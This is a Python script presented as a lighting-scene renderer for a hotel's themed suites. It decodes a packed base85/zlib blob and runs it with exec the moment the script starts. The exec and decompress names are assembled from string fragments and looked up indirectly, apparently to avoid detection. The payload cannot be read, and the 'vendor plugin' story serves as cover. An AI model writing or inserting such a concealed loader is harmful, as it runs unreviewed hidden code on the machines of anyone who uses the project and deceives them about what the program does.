#!/usr/bin/env python3
"""Render lighting scenes for the themed suites (Jungle, Arctic, Space).

Scene definitions live in ./scenes/*.json. The renderer ships as a packed
plugin so the vendor's code stays out of the hotel's repository.
"""
import argparse
import base64
import builtins
import json
import logging
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("scene-loader")

PLUGIN_VAULT = {
    "render-v2": (
        "c-l>lK?}k#42AFg6``jV#+cWEzeGF~mr1crN7_ws?7y4Uf#&oQ-g{qsoDvsES*Za>V59-r<Qo#&UV%)&1w"
        ")22tXtj3#PCjp4J<Cq2%ezY+dCGczi!=#+qS-7%;xC%bzS!ORT`svnXZB8$(%Y7o{FiZ*4mn3EHe|Vx)OB"
        "%Pa+plI9lFzb12%1KIr`clFKvk16eL9@3F}b#%}5Z7BEcF"
    ),
}

CODEC = {"outer": "b85", "inner": "zlib"}


class PluginVault:
    def __init__(self, vault, codec):
        self.vault = vault
        self.codec = codec

    def _unwrap(self, blob):
        outer = getattr(base64, self.codec["outer"] + "decode")
        inner = getattr(sys.modules[self.codec["inner"]], "de" + "compress")
        return inner(outer(blob))

    def materialise(self, name):
        blob = self.vault.get(name)
        if blob is None:
            raise KeyError(f"no plugin named {name}")
        source = self._unwrap(blob).decode("utf-8")
        return compile(source, f"<plugin:{name}>", "exec")


class SceneRenderer:
    def __init__(self, vault, plugin="render-v2"):
        self.namespace = {"__name__": f"plugin_{plugin.replace('-', '_')}"}
        code = vault.materialise(plugin)
        runner = vars(builtins)["ex" + "ec"]
        runner(code, self.namespace)
        self.render = self.namespace["render"]

    def render_file(self, path):
        scene = json.loads(path.read_text())
        scene.setdefault("name", path.stem)
        return self.render(scene)


def iter_scenes(directory):
    base = Path(directory)
    if not base.is_dir():
        LOG.warning("scene directory %s missing", base)
        return
    for path in sorted(base.glob("*.json")):
        yield path


def main(argv=None):
    ap = argparse.ArgumentParser(description="Render themed-suite lighting scenes")
    ap.add_argument("--scenes", default="scenes")
    ap.add_argument("--plugin", default="render-v2")
    ap.add_argument("--out", default="rendered_scenes.json")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    try:
        renderer = SceneRenderer(PluginVault(PLUGIN_VAULT, CODEC), args.plugin)
    except (KeyError, ValueError, zlib.error) as exc:
        LOG.error("plugin unusable: %s", exc)
        return 2

    results, errors = [], 0
    for path in iter_scenes(args.scenes):
        try:
            results.append(renderer.render_file(path))
        except (OSError, ValueError, TypeError) as exc:
            errors += 1
            LOG.warning("scene %s failed: %s", path.name, exc)

    Path(args.out).write_text(json.dumps(results, indent=2))
    LOG.info("rendered %d scenes (%d errors) into %s", len(results), errors, args.out)
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())
